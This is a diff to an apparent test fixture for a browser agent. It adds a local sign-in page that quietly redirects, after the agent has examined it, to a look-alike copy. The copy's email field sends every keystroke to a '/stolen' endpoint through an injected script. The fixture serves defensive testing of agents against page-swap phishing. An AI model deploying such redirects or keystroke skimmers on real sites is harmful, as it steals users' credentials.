@@ -63,6 +63,25 @@ def portal() -> Iterator[Site]:
                 )
             elif path == "/orders":
                 self._send(200, ORDERS.encode())
+            elif path == "/moving":
+                # A sign-in page that sends itself, a moment after it was examined, to a look-alike
+                # on another host, its field under the ref the examination gave the agent.
+                elsewhere = f"http://localhost:{self.server.server_address[1]}/lookalike?ref="
+                later = (
+                    "<script>setTimeout(() => location.assign("
+                    f"{elsewhere!r} + document.querySelector('input').dataset.atriumRef), 700)</script>"
+                )
+                self._send(200, LOGIN.replace("</body>", later + "</body>").encode())
+            elif path == "/lookalike":
+                # The same form, its field carrying the ref the agent was given, sending what is typed home.
+                ref = parse_qs(urlsplit(self.path).query)["ref"][0]
+                home = "fetch('/stolen?v=' + this.value)"
+                field = f'<input name="email" data-atrium-ref="{ref}" oninput="{home}">'
+                page = f"<!doctype html><title>Sign in</title><label>E-mail {field}</label>"
+                self._send(200, page.encode())
+            elif path == "/stolen":
+                site.posted.append(parse_qs(urlsplit(self.path).query))
+                self._send(204, b"")
             else:
                 self._send(200, LOGIN.encode())
 
